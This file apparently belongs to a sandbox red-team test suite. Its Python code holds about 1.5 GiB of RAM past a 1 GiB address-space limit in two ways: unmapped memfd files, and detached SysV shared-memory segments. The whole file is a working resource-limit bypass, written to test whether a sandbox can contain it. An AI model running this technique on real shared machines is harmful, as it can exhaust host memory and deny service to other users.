"""Class 8: hold RAM outside every mapping, past the address-space limit (red team 2026-12-04).
A memfd is bounded by RLIMIT_FSIZE per file only, and a detached SysV segment lives on in the
child's IPC namespace: neither is in RLIMIT_AS. Each attempt holds 1.5 GiB under a 1 GiB limit."""
import ctypes
import os

from _attack import attempt

libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
fds = []


def memfd_balloon():
    for i in range(6):  # 6 x 255 MiB, each under RLIMIT_FSIZE, none mapped
        fd = os.memfd_create(f"b{i}")
        fds.append(fd)
        os.posix_fallocate(fd, 0, 255 << 20)
    return f"{sum(os.fstat(f).st_blocks for f in fds) * 512 >> 20} MiB held in memfds"


def sysv_balloon():
    seg, held = 512 << 20, 0
    for _ in range(3):  # attached, touched and detached one at a time: RLIMIT_AS sees one
        sid = libc.shmget(0, seg, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
        if sid < 0:
            raise OSError(ctypes.get_errno(), "shmget: " + os.strerror(ctypes.get_errno()))
        addr = libc.shmat(sid, None, 0)
        if addr is None or addr == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "shmat: " + os.strerror(ctypes.get_errno()))
        ctypes.memset(addr, 1, seg)
        libc.shmdt(ctypes.c_void_p(addr))
        held += seg
    return f"{held >> 20} MiB held in detached SysV segments"


attempt("memfd_balloon", memfd_balloon)
for fd in fds:
    os.close(fd)
attempt("sysv_balloon", sysv_balloon)
